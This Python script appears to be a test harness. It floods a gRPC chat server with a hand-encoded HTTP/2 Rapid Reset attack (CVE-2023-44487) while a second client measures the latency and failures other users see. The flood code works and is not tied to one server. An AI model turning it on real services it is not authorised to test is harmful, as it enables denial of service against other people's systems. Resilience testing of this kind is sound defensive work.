"""HTTP/2 floods against a gRPC port, with a second client measuring how the
server treats everyone else meanwhile.

    flood.py ADDR PROTO_DIR OUT_DIR rapid-reset STREAMS [--rate N]

rapid-reset (CVE-2023-44487): one plain connection opens STREAMS streams,
each a HEADERS frame for /chat.ChatService/SendMessage immediately followed
by RST_STREAM(CANCEL), written in batches as fast as the socket takes them
(or at --rate streams/s). Frames are encoded by hand (one HPACK block made
once, never indexed, so it can be resent) so the flood is not bounded by a
Python HTTP/2 state machine.

Meanwhile a separate grpcio client sends a SendMessage every 20 ms with a
2 s deadline. One JSON line on stdout says what happened:
  {"streams_sent", "seconds", "offender_closed", "victim": {"ok", "failed",
   "p50_ms", "p99_ms"}}
"""

import json
import os
import socket
import struct
import sys
import threading
import time

import hpack

END_STREAM = 0x1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_HEADERS = 0x4
CANCEL = 0x8


def frame(kind, flags, stream_id, payload=b""):
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream_id & 0x7FFFFFFF)
        + payload
    )


def header_block(authority):
    enc = hpack.Encoder()
    headers = [
        hpack.NeverIndexedHeaderTuple(":method", "POST"),
        hpack.NeverIndexedHeaderTuple(":scheme", "http"),
        hpack.NeverIndexedHeaderTuple(":path", "/chat.ChatService/SendMessage"),
        hpack.NeverIndexedHeaderTuple(":authority", authority),
        hpack.NeverIndexedHeaderTuple("content-type", "application/grpc"),
        hpack.NeverIndexedHeaderTuple("te", "trailers"),
    ]
    return enc.encode(headers, huffman=False)


class Offender:
    """The flooding connection; a reader thread drains what the server sends
    (so our receive buffer never stops it writing) and notices GOAWAY or
    the connection being closed."""

    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port), timeout=10)
        # A server that stops reading makes the flood wait, up to this.
        self.sock.settimeout(30)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.closed = threading.Event()
        self.goaway = None
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        buf = b""
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[0:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags = buf[3], buf[4]
                    payload = buf[9 : 9 + length]
                    buf = buf[9 + length :]
                    if kind == SETTINGS and not flags & 0x1:
                        self.sock.sendall(frame(SETTINGS, 0x1, 0))
                    elif kind == PING and not flags & 0x1:
                        self.sock.sendall(frame(PING, 0x1, 0, payload))
                    elif kind == GOAWAY:
                        self.goaway = int.from_bytes(payload[4:8], "big")
        except OSError:
            pass
        self.closed.set()

    def flood(self, streams, rate, authority):
        block = header_block(authority)
        # A whole SendMessage request (room, user, content "x"), as a
        # client that means it would send it, before the reset.
        request = b"\x0a\x01f\x12\x01x\x1a\x05flood"
        body = b"\x00" + struct.pack(">I", len(request)) + request
        self.error = None
        batch = 500
        sent = 0
        stream_id = 1
        start = time.monotonic()
        try:
            while sent < streams and not self.closed.is_set():
                n = min(batch, streams - sent)
                out = bytearray()
                for _ in range(n):
                    out += frame(HEADERS, END_HEADERS, stream_id, block)
                    out += frame(DATA, END_STREAM, stream_id, body)
                    out += frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))
                    stream_id += 2
                self.sock.sendall(out)
                sent += n
                if rate:
                    ahead = sent / rate - (time.monotonic() - start)
                    if ahead > 0:
                        time.sleep(ahead)
        except OSError as e:
            self.error = str(e)
        return sent, time.monotonic() - start


class Victim:
    """Another client of the same server, asking for a SendMessage every
    20 ms while the flood runs."""

    def __init__(self, addr, proto_dir, out_dir):
        import grpc
        import grpc_tools
        from grpc_tools import protoc

        well_known = os.path.join(os.path.dirname(grpc_tools.__file__), "_proto")
        rc = protoc.main(
            ["protoc", f"-I{proto_dir}", f"-I{well_known}", f"--python_out={out_dir}",
             f"--grpc_python_out={out_dir}", os.path.join(proto_dir, "chat.proto")]
        )
        assert rc == 0, f"protoc failed: {rc}"
        sys.path.insert(0, out_dir)
        import chat_pb2
        import chat_pb2_grpc

        self.pb = chat_pb2
        self.stub = chat_pb2_grpc.ChatServiceStub(grpc.insecure_channel(addr))
        self.latencies = []
        self.failed = 0
        self.errors = []
        self.stop = threading.Event()
        # The victim is connected and answered before the flood begins.
        self.stub.SendMessage(self._req(), timeout=10)
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _req(self):
        return self.pb.SendMessageRequest(room="victim", user="v", content="x")

    def _run(self):
        while not self.stop.is_set():
            t0 = time.monotonic()
            try:
                self.stub.SendMessage(self._req(), timeout=2)
                self.latencies.append((time.monotonic() - t0) * 1000)
            except Exception as e:
                self.failed += 1
                code = getattr(e, "code", None)
                self.errors.append(f"{code() if callable(code) else type(e).__name__} after {round((time.monotonic() - t0) * 1000)} ms")
            self.stop.wait(0.02)

    def report(self):
        self.stop.set()
        self.thread.join(5)
        lat = sorted(self.latencies)

        def pct(p):
            return round(lat[min(len(lat) - 1, int(len(lat) * p))], 1) if lat else None

        return {"ok": len(lat), "failed": self.failed, "errors": self.errors[:5], "p50_ms": pct(0.5), "p99_ms": pct(0.99)}


def main():
    addr, proto_dir, out_dir, mode, streams = sys.argv[1:6]
    rate = 0
    if "--rate" in sys.argv:
        rate = int(sys.argv[sys.argv.index("--rate") + 1])
    if mode != "rapid-reset":
        sys.exit(f"unknown flood {mode!r}")
    host, port = addr.rsplit(":", 1)
    victim = Victim(addr, proto_dir, out_dir)
    offender = Offender(host, int(port))
    sent, seconds = offender.flood(int(streams), rate, addr)
    # What the server does once the flood stops counts too: keep measuring
    # the victim for another second.
    time.sleep(1)
    print(json.dumps({
        "streams_sent": sent,
        "seconds": round(seconds, 2),
        "offender_closed": offender.closed.is_set(),
        "goaway": offender.goaway,
        "send_error": offender.error,
        "victim": victim.report(),
    }), flush=True)


if __name__ == "__main__":
    main()
